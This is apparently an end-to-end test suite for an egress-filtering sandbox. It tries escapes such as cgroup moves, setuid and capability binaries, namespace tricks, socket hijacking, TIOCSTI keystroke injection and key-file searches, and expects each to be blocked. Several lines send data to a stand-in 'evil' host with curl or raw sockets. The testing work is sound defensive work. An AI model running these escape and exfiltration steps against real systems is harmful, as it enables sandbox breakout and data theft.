import { type ChildProcess, execFileSync, spawn, spawnSync } from 'node:child_process';
import { chmodSync, chownSync, existsSync, mkdirSync, readdirSync, readFileSync, rmdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { LogEvent } from '../../src/log/event.ts';
import { CLI, exit, type Lab, reached, readJsonLines, WORLD } from '../e2e/lab.ts';
import { attack, attempts, denials, has, PYTHON, PYTHON_EXE, program, startAttackLab, unfiltered } from './attack.ts';

/** C1, C4, C5, F1 to F4 of what an ordinary user and root can do inside of `run`. */
const NOBODY = 65534;
const GOOD = 'ok.test\n203.0.113.10:9999';

let lab: Lab;
beforeAll(async () => {
  lab = await startAttackLab();
});
afterAll(() => lab?.stop());

const fixture = (name: string): string => program(lab, `privilege/${name}`);
const gotOf = (stdout: string): Record<string, string> => Object.fromEntries([...attempts(stdout)].map(([way, { got }]) => [way, got]));

const processes = new Set<ChildProcess>();
afterAll(async () => {
  for (const child of processes) {
    child.kill('SIGKILL');
    if (child.exitCode === null && child.signalCode === null) await new Promise((done) => child.once('exit', done));
  }
});

/** A process outside of the filter, in the job's namespace, as a user. */
async function outside(argv: string[], user = 'nobody'): Promise<ChildProcess> {
  const as = user === 'root' ? [] : ['setpriv', '--reuid', user, '--regid', 'nogroup', '--clear-groups'];
  const child = spawn('ip', ['netns', 'exec', lab.job, ...as, ...argv], { stdio: ['ignore', 'pipe', 'inherit'] });
  processes.add(child);
  await new Promise<void>((ready, failed) => {
    child.stdout?.once('data', () => ready());
    child.once('exit', (code) => failed(new Error(`${argv.join(' ')} ended with ${code}`)));
  });
  return child;
}

describe('leaving the cgroup', () => {
  const hierarchy = readFileSync('/proc/self/mountinfo', 'utf8')
    .split('\n')
    .find((line) => line.includes(' - cgroup2 '))
    ?.split(' ')[4];
  const why = hierarchy ? '' : ' (skipped: no cgroup2 is mounted here)';

  /** With the machine's own view of /sys, which `ip netns exec` replaces. */
  const here = (argv: string[]) =>
    spawnSync('nsenter', [`--net=/run/netns/${lab.job}`, '--', ...argv], {
      encoding: 'utf8',
      env: { PATH: process.env.PATH, HOME: lab.home },
    });

  test.skipIf(!hierarchy)(`no way out for a user, who has a cgroup of his own as systemd delegates them${why}`, async () => {
    const delegated = `${hierarchy}/egf-delegated-${process.pid}`;
    mkdirSync(delegated);
    try {
      chownSync(delegated, NOBODY, NOBODY);
      for (const name of ['cgroup.procs', 'cgroup.threads', 'cgroup.subtree_control']) chownSync(join(delegated, name), NOBODY, NOBODY);
      // Root, who may, gets into the other cgroup by the same calls.
      const argv = [PYTHON, fixture('leave.py'), WORLD.evil, `${hierarchy}`, delegated];
      const mark = lab.marks();
      const free = here(argv);
      await lab.quiet();
      expect(gotOf(free.stdout)).toMatchObject({
        'root cgroup': 'moved',
        'delegated cgroup': 'moved',
        'delegated cgroup, at birth': 'started there',
        'delegated cgroup, at birth network': 'reached',
      });
      expect(reached(lab.since(mark), WORLD.evil)).not.toEqual([]);
      for (const user of ['nobody', 'root']) {
        const [later, log] = [lab.marks(), join(lab.directory, `leave-${user}.jsonl`)];
        const caught = here([CLI, 'run', '-q', '--log', log, '--user', user, '--', ...argv]);
        await lab.settle();
        const got = gotOf(caught.stdout);
        expect(Object.keys(got)).toHaveLength(8);
        expect(Object.values(got).filter((text) => /moved|started|reached/.test(text))).toEqual([]);
        // EROFS for root, who owns the files; EACCES.
        expect(got['root cgroup']).toMatch(user === 'root' ? /^30:/ : /^13:/);
        expect(reached(lab.since(later), WORLD.evil)).toEqual([]);
        const lines = readJsonLines<LogEvent>(log).filter(({ dst_ip, policy }) => dst_ip === WORLD.evil && policy === 'deny');
        expect(lines.map(({ exe }) => exe)).toEqual(Array(lines.length).fill(PYTHON_EXE));
        expect(lines.length).toBeGreaterThanOrEqual(4);
      }
    } finally {
      for (let look = 0; look < 50 && readFileSync(join(delegated, 'cgroup.events'), 'utf8').includes('populated 1'); look++)
        await sleep(20);
      rmdirSync(delegated);
    }
  });
});

describe('gaining privileges', () => {
  test('C1: a setuid program, with and without', async () => {
    const setuid = join(lab.directory, 'setuid-python');
    execFileSync('install', ['-m', '4755', PYTHON_EXE, setuid]);
    const argv = [setuid, '-c', 'import os; print(os.geteuid())'];
    const { free, caught } = await attack(lab, argv, {});
    expect(free.stdout).toBe('0\n');
    expect(caught.stdout).toBe(`${NOBODY}\n`);
  });

  test('C1: a program with file capabilities', async () => {
    const capable = join(lab.directory, 'capable-python');
    execFileSync('install', ['-m', '755', PYTHON_EXE, capable]);
    execFileSync('setcap', ['cap_net_admin,cap_net_raw,cap_sys_admin+ep', capable], {
      env: { PATH: `${process.env.PATH}:/usr/sbin:/sbin` },
    });
    const argv = [capable, '-c', 'print(open("/proc/self/status").read().split("CapEff:\\t")[1].split()[0])'];
    const { free, caught } = await attack(lab, argv, {});
    expect(Number.parseInt(free.stdout, 16)).toBeGreaterThan(0);
    // The kernel does not even start a program that wants more than the bounding set has.
    expect(caught.stdout).toBe('');
    expect(caught.stderr).toContain('Operation not permitted');
  });

  test.skipIf(!has('sudo'))(`C1: sudo${has('sudo') ? '' : ' (skipped: not installed)'}`, async () => {
    const { stdout, status } = await lab.run(['sh', '-c', 'sudo -n id -u; su -c "id -u" root </dev/null; true']);
    expect(stdout).not.toMatch(/^0$/m);
    expect(status).toBe(0);
  });

  test('C4: root in namespaces of its own has no network but ours', async () => {
    const script = `import socket
for s in ('import socket; s = socket.create_connection(("${WORLD.evil}", 9999), 3); s.sendall(b"x")',
          'import socket; s = socket.socket(17, 3, 0x300); s.bind(("eth0", 0)); s.send(b"x" * 60)',
          'import socket; s = socket.socket(2, 3, 1); s.sendto(b"x" * 8, ("${WORLD.evil}", 0))',
          'import socket; s = socket.socket(2, 2); s.setsockopt(1, 36, 0x45460001); s.sendto(b"x", ("${WORLD.evil}", 9999))'):
    import subprocess
    for namespaces in ("-Ur", "-Urn", "-Urnm"):
        print(namespaces, subprocess.run(["unshare", namespaces, "${PYTHON}", "-c", s], capture_output=True, text=True).stderr.strip().split("\\n")[-1])
subprocess.run(["unshare", "-Urn", "sh", "-c", "ip link add v0 type veth peer name v1 netns 1 && echo joined"])`;
    const caught = await lab.run([PYTHON, '-c', script]);
    expect(caught.stdout).toContain('-Urn ');
    expect(caught.stdout).not.toContain('joined');
    expect(reached(caught, WORLD.evil)).toEqual([]);
    expect(caught.packets.filter(({ dst }) => dst !== WORLD.dns && dst !== '224.0.0.22')).toEqual([]);
    expect(denials(caught)).toEqual(expect.arrayContaining([expect.objectContaining({ dst_ip: WORLD.evil, dst_port: 9999 })]));
  });
});

describe('services outside that act for others', () => {
  const landlock = Number(execFileSync(PYTHON, ['-c', 'import ctypes; print(ctypes.CDLL(None).syscall(444, None, 0, 1))'])) >= 6;
  const socketOf = (name: string): string => join(lab.directory, name, 'agent.sock');
  let outsider: ChildProcess;

  beforeAll(async () => {
    for (const name of ['service', 'kept']) {
      mkdirSync(join(lab.directory, name));
      chmodSync(join(lab.directory, name), 0o777);
    }
    outsider = await outside([
      PYTHON,
      fixture('agent.py'),
      WORLD.evil,
      '9999',
      socketOf('service'),
      socketOf('kept'),
      `@egf-agent-${process.pid}`,
    ]);
  });

  test('C2: what listens on a Unix socket anywhere is not there, by any path', async () => {
    const argv = [PYTHON, fixture('services.py'), socketOf('service'), String(outsider.pid)];
    const { free, caught } = await attack(lab, argv, {});
    const open = gotOf(free.stdout);
    expect(open).toMatchObject({ directly: 'sent', 'by link': 'sent', 'by descriptor': 'sent', 'through another process': 'sent' });
    expect(free.seen.filter(({ address }) => address === WORLD.evil)).not.toEqual([]);
    const shut = gotOf(caught.stdout);
    expect(Object.keys(shut)).toEqual(Object.keys(open));
    expect(Object.values(shut).filter((got) => got.includes('sent'))).toEqual([]);
    expect(reached(caught, WORLD.evil)).toEqual([]);
  });

  test('C2: nor for root', async () => {
    const caught = await lab.run([PYTHON, fixture('services.py'), socketOf('service'), String(outsider.pid)], { user: 'root' });
    const shut = Object.values(gotOf(caught.stdout));
    expect(shut).toHaveLength(8);
    expect(shut.filter((got) => got.includes('sent'))).toEqual([]);
    expect(reached(caught, WORLD.evil)).toEqual([]);
  });

  test.skipIf(!landlock)(`C2: an abstract socket${landlock ? '' : ' (skipped: this kernel has no Landlock scopes, ABI 6)'}`, async () => {
    const ask = `import sys; sys.path.insert(0, ${JSON.stringify(program(lab, 'privilege'))}); from common import ask; print(ask("@egf-agent-${process.pid}", b"x"))`;
    const { free, caught } = await attack(lab, [PYTHON, '-c', ask], {});
    expect(free.stdout).toBe('sent\n');
    expect(caught.stderr).toContain('PermissionError');
    expect(reached(caught, WORLD.evil)).toEqual([]);
  });

  test('--keep-socket lets one through, as the person wants it, and no other', async () => {
    const ask = (name: string): string =>
      `import sys; sys.path.insert(0, ${JSON.stringify(program(lab, 'privilege'))}); from common import ask; print(ask(${JSON.stringify(socketOf(name))}, b"kept"))`;
    const args = ['--keep-socket', socketOf('kept')];
    expect((await lab.run([PYTHON, '-c', ask('kept')], { args })).stdout).toBe('sent\n');
    expect((await lab.run([PYTHON, '-c', ask('service')], { args })).stdout).toBe('');
  });

  test('sockets that the command makes itself work', async () => {
    const path = join(lab.home, 'own.sock');
    const own = `import socket, os
s = socket.socket(socket.AF_UNIX); s.bind(${JSON.stringify(path)}); s.listen()
if os.fork() == 0:
    c = socket.socket(socket.AF_UNIX); c.connect(${JSON.stringify(path)}); c.sendall(b"hello"); os._exit(0)
print(s.accept()[0].recv(9)); os.remove(${JSON.stringify(path)})`;
    expect((await lab.run([PYTHON, '-c', own])).stdout).toBe("b'hello'\n");
  });

  test('processes of the same user outside cannot be reached', async () => {
    const victim = await outside([PYTHON, '-c', 'import time; print("ready", flush=True); time.sleep(100)']);
    const { free, caught } = await attack(lab, [PYTHON, fixture('outsiders.py'), String(victim.pid)], {});
    expect(Object.values(gotOf(free.stdout)).filter((got) => /^\d+:/.test(got))).toEqual([]);
    const shut = Object.values(gotOf(caught.stdout));
    expect(shut).toHaveLength(9);
    // No such process, no such file.
    for (const got of shut) expect(got).toMatch(/^[32]:/);
    expect(victim.exitCode).toBeNull();
  });

  test('a signal to everybody reaches the command itself only', async () => {
    // One that nobody minds, should it get further.
    const ready = join(lab.directory, 'winched');
    const listen = `import signal, time
signal.signal(signal.SIGWINCH, lambda *_: open(${JSON.stringify(ready)}, "w").close())
print("ready", flush=True)
while True: time.sleep(1)`;
    await outside([PYTHON, '-c', listen], 'root');
    const { status } = await lab.run(['sh', '-c', 'sleep 1 & kill -WINCH -1; wait'], { user: 'root' });
    expect(status).toBe(0);
    await sleep(100);
    expect(existsSync(ready)).toBe(false);
  });
});

describe('what the kernel or a terminal does for whoever asks', () => {
  const pushes = spawnSync('sysctl', ['-n', 'dev.tty.legacy_tiocsti'], { encoding: 'utf8' }).stdout.trim() !== '0';

  test.skipIf(!pushes)(
    `keystrokes pushed into the terminal for the shell that waits${pushes ? '' : ' (skipped: this kernel has switched TIOCSTI off)'}`,
    () => {
      const type = [PYTHON, fixture('keystrokes.py'), '--type'];
      const free = unfiltered(lab, [PYTHON, fixture('keystrokes.py'), ...type], 'root');
      expect(free.stdout).toContain('pushed');
      expect(free.stdout).toContain("the shell reads: b'typed by the command\\n'");
      const run = [CLI, 'run', '-q', '--user', 'nobody', '--', ...type];
      const caught = unfiltered(lab, [PYTHON, fixture('keystrokes.py'), ...run], 'root', 100_000);
      expect(caught.stdout).toContain('refused 1');
      expect(caught.stdout).toContain("the shell reads: b''");
    },
  );

  test('request_key(2), for which the kernel would start a program as root that looks names up', async () => {
    const ask = `import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall(${process.arch === 'x64' ? 249 : 218}, b"dns_resolver", b"secret.evil.test", b"", 0)
print(ctypes.get_errno())`;
    const { free, caught } = await attack(lab, [PYTHON, '-c', ask], {});
    expect(free.stdout).not.toBe('38\n');
    expect(caught.stdout).toBe('38\n');
  });
});

describe('descriptors', () => {
  const start = (kind: string): string[] => ['ip', 'netns', 'exec', lab.job, PYTHON, fixture('inherit.py'), WORLD.ok, '9999', kind];
  const run = ['run', '-q', '--user', 'nobody', '--'];

  test('a network socket as standard input would be connected anew, outside of the scope: the run does not start', async () => {
    const [reconnect, mark] = [[PYTHON, fixture('reconnect.py'), WORLD.evil, '9999', '0'], lab.marks()];
    const free = spawnSync(start('stdin')[0] ?? '', [...start('stdin').slice(1), ...reconnect], { encoding: 'utf8' });
    expect(gotOf(free.stdout)).toEqual({ reconnect: 'sent' });
    await lab.quiet();
    expect(reached(lab.since(mark), WORLD.evil)).not.toEqual([]);
    const later = lab.marks();
    const caught = spawnSync(start('stdin')[0] ?? '', [...start('stdin').slice(1), CLI, ...run, ...reconnect], { encoding: 'utf8' });
    expect(caught.status).toBe(2);
    expect(caught.stderr).toMatch(/^egress-filter: Standard input, output or error is a network socket[^\n]*\n$/);
    await lab.settle();
    expect(reached(lab.since(later), WORLD.evil)).toEqual([]);
  });

  test('other descriptors of the caller are not handed on', async () => {
    const reconnect = [PYTHON, fixture('reconnect.py'), WORLD.evil, '9999', '9'];
    const child = spawn(start('other')[0] ?? '', [...start('other').slice(1), CLI, ...run, ...reconnect], {
      stdio: ['pipe', 'pipe', 'inherit'],
    });
    let output = '';
    child.stdout?.on('data', (chunk) => {
      output += String(chunk);
    });
    child.stdin?.end();
    expect(await exit(child, 20_000)).toBe(0);
    expect(gotOf(output).reconnect).toMatch(/^9: /);
    const listed = await lab.run(['sh', '-c', 'ls /proc/$$/fd']);
    expect(listed.stdout.split('\n').filter((fd) => Number(fd) > 2 && Number(fd) !== 10)).toEqual([]);
  });
});

describe('root in the command, of a run that root started', () => {
  test('F1, F4, C5: cannot touch the kernel, the disks, other namespaces, the state of runs, or the log', async () => {
    const disk = readdirSync('/sys/block')
      .map((name) => `/dev/${name}`)
      .find((path) => existsSync(path) && spawnSync('head', ['-c', '2048', path]).stdout.length > 0);
    const log = join(lab.directory, 'root-log.jsonl');
    writeFileSync(log, '');
    const argv = [PYTHON, fixture('root.py'), disk ?? '/dev/null', log];
    const free = gotOf(unfiltered(lab, argv, 'root').stdout);
    expect(free).toMatchObject({ core_pattern: 'open', 'user namespace': 'made', 'packet mark': 'marked', bpf: 'allowed' });
    const caught = await lab.run(argv, { user: 'root', args: ['--log', log] });
    const got = gotOf(caught.stdout);
    expect(Object.keys(got).length).toBeGreaterThan(20);
    expect(Object.values(got).filter((text) => /^(open|made|mounted|read|entered|marked|allowed|listed|renamed)/.test(text))).toEqual([]);
  });

  test('keeps ordinary capabilities only, and those in no user namespace', async () => {
    const { stdout } = await lab.run(['sh', '-c', 'grep ^Cap /proc/self/status; grep NoNewPrivs /proc/self/status'], { user: 'root' });
    // chown, dac_override, fowner, fsetid, kill, setgid, setuid, net_bind_service, sys_chroot, audit_write, setfcap
    expect(stdout).toMatch(
      /CapInh:\t0{16}\nCapPrm:\t00000000a00404fb\nCapEff:\t00000000a00404fb\nCapBnd:\t00000000a00404fb\nCapAmb:\t0{16}\nNoNewPrivs:\t1/,
    );
  });

  test('does what root does in a build: users, owners, ports', async () => {
    const script = `set -e; cd ${lab.home}; touch own; chown nobody own; setpriv --reuid nobody --regid nogroup --clear-groups id -u
      ${PYTHON} -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 81)); print("bound")'; rm own`;
    expect((await lab.run(['sh', '-c', script], { user: 'root' })).stdout).toBe(`${NOBODY}\nbound\n`);
  });

  test('has no network but ours either, as another user neither', async () => {
    const script = `curl -s -m 3 http://${WORLD.evil}/; setpriv --reuid 61200 --regid 61200 --clear-groups curl -s -m 3 http://${WORLD.evil}/; curl -sS -m 60 https://ok.test/`;
    const caught = await lab.run(['sh', '-c', script], { user: 'root', policy: GOOD });
    expect(caught.stdout).toContain('hello from ok.test');
    expect(reached(caught, WORLD.evil)).toEqual([]);
    expect(
      denials(caught)
        .filter(({ dst_ip }) => dst_ip === WORLD.evil)
        .map(({ uid }) => uid),
    ).toEqual([0, 61200]);
  });
});

describe('secrets and settings', () => {
  test('the key of the CA is nowhere that the command can read', async () => {
    const script =
      'grep -rlsa "PRIVATE".KEY /run/egress-filter /proc/[0-9]*/environ; env | grep -c "PRIVATE".KEY; ls /run/egress-filter; true';
    for (const user of ['nobody', 'root']) {
      const { stdout } = await lab.run(['sh', '-c', script], { user });
      expect(stdout).toMatch(/^0\n[0-9a-f]{8}\n/);
    }
  });

  test('nothing in the directory of the run is writable for others', async () => {
    const { stdout } = await lab.run(['find', '/run/egress-filter', '-writable']);
    expect(stdout).toBe('');
  });

  test('what the caller sets for his programs does not reach the proxy', async () => {
    const marker = join(lab.directory, 'loaded');
    const module = join(lab.directory, 'evil.cjs');
    writeFileSync(module, `if (!process.argv0.includes('cli')) require('fs').appendFileSync(${JSON.stringify(marker)}, process.title)`);
    const env = {
      NODE_EXTRA_CA_CERTS: lab.caPath,
      LD_LIBRARY_PATH: '/nowhere',
      OPENSSL_CONF: '/nowhere/openssl.cnf',
      SSLKEYLOGFILE: marker,
    };
    const child = lab.spawn(['sh', '-c', 'echo started; read x'], { env });
    await new Promise((done) => child.stdout?.once('data', done));
    const proxy = readdirSync('/proc')
      .filter((pid) => /^\d+$/.test(pid))
      .find((pid) => {
        try {
          const parent = /^PPid:\t(\d+)$/m.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1];
          return parent === String(child.pid) && readFileSync(`/proc/${pid}/cmdline`, 'utf8').startsWith('egress-filter-proxy\0');
        } catch {
          return false;
        }
      });
    const names = readFileSync(`/proc/${proxy}/environ`, 'utf8')
      .split('\0')
      .filter(Boolean)
      .map((entry) => entry.split('=')[0]);
    child.stdin?.end('\n');
    await exit(child, 20_000);
    expect(names).toEqual(['PATH', 'LANG', 'NODE_ENV', 'UV_THREADPOOL_SIZE']);
    expect(existsSync(marker)).toBe(false);
  });
});
